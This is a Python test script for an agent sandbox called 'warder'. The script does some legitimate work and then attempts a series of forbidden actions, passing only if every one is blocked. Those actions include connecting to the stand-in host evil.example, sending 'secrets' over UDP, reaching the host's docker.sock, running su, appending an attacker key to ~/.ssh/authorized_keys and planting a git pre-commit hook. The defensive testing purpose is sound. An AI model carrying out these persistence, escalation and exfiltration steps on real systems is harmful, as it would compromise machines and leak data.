# SPDX-License-Identifier: Apache-2.0
"""The agent of ./demo: an ordinary Python program that does its work and then misbehaves.

It knows nothing of warder: no proxy variables, no library, no mock. Each attempt is made
with the same call that a program outside would use, and what the kernel said is printed.
Exit status: 0 when the work could be done and every attempt was refused.
"""
import ctypes
import mmap
import os
import platform
import signal
import socket
import subprocess
import sys
import urllib.request

NOT_TO_BE_ASKED = ("192.0.2.10", 443)  # TEST-NET-1, RFC 5737: nobody's
PATIENCE = 10  # seconds; a refusal that takes as long is none
IO_URING_SETUP = 425  # the same number on every architecture


def fetch(url):
    with urllib.request.urlopen(url, timeout=PATIENCE) as answer:
        return answer.read().decode().strip()


def raw_address():
    with socket.create_connection(NOT_TO_BE_ASKED, timeout=PATIENCE):
        pass


def other_host():
    with socket.create_connection(("evil.example", 443), timeout=PATIENCE):
        pass


def udp():
    """A refusal of a datagram comes at once, or as the answer to the next call."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect(("192.0.2.10", 9999))
        s.send(b"secrets")
        s.recv(1)


def host_socket(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(PATIENCE)
        s.connect(path)
        s.recv(64)


def forbidden_command():
    subprocess.run(["su", "-c", "id"], stdin=subprocess.DEVNULL, check=False)


def append(path, text):
    with open(path, "a", encoding="ascii") as f:
        f.write(text)


def compat_call():
    """getpid() as a 32-bit program asks for it, from this 64-bit one.

    A child does it: on a kernel without 32-bit calls `int $0x80` is a fault.
    """
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov $20, %eax; int $0x80; ret
    child = os.fork()
    if child == 0:
        page = mmap.mmap(-1, mmap.PAGESIZE,
                         prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        start = ctypes.addressof(ctypes.c_char.from_buffer(page))
        got = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
        os._exit(0 if got > 0 else -got)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status < 0:
        raise OSError(0, signal.strsignal(-status))
    if status > 0:
        raise OSError(status, os.strerror(status))


def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    ring = libc.syscall(IO_URING_SETUP, 1, ctypes.create_string_buffer(120))
    if ring < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(ring)


def work(url):
    """Its actual job: fetch, and write into the workspace.  True when that went well."""
    try:
        weather = fetch(url)
        print(f"  {'GET ' + url:<44} {weather}")
        append("weather.txt", weather + "\n")
        print(f"  {'write weather.txt':<44} done")
        return True
    except OSError as e:
        print(f"  {'GET ' + url:<44} FAILED: {e}")
        return False


def attempt(what, call, *arguments):
    """Prints how it went; true when it was refused."""
    try:
        call(*arguments)
    except TimeoutError:
        print(f"  {what:<44} NOT REFUSED: no answer")
        return False
    except OSError as e:
        print(f"  {what:<44} blocked: {e.strerror or e}")
        return True
    print(f"  {what:<44} SUCCEEDED")
    return False


def main():
    if sys.argv[1:] == ["--compat-call"]:  # the control: is there such a thing here at all?
        compat_call()
        return 0
    url, socket_path = sys.argv[1:]
    print("its work:", flush=True)
    works = work(url)

    print("and what nobody asked it for:")
    attempts = [
        ("connect 192.0.2.10:443", raw_address),
        ("connect evil.example:443", other_host),
        ("UDP to 192.0.2.10:9999", udp),
        ("the host's docker.sock", host_socket, socket_path),
        ("run su", forbidden_command),
        ("write ~/.ssh/authorized_keys", append,
         os.path.expanduser("~/.ssh/authorized_keys"), "ssh-ed25519 AAAA evil\n"),
        ("write .git/hooks/pre-commit", append, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n"),
        ("io_uring_setup", io_uring),
    ]
    if platform.machine() == "x86_64":
        attempts.insert(-1, ("a 32-bit system call", compat_call))
    refused = []
    for a in attempts:
        sys.stdout.flush()
        refused.append(attempt(*a))
    return 0 if works and all(refused) else 1


if __name__ == "__main__":
    sys.exit(main())
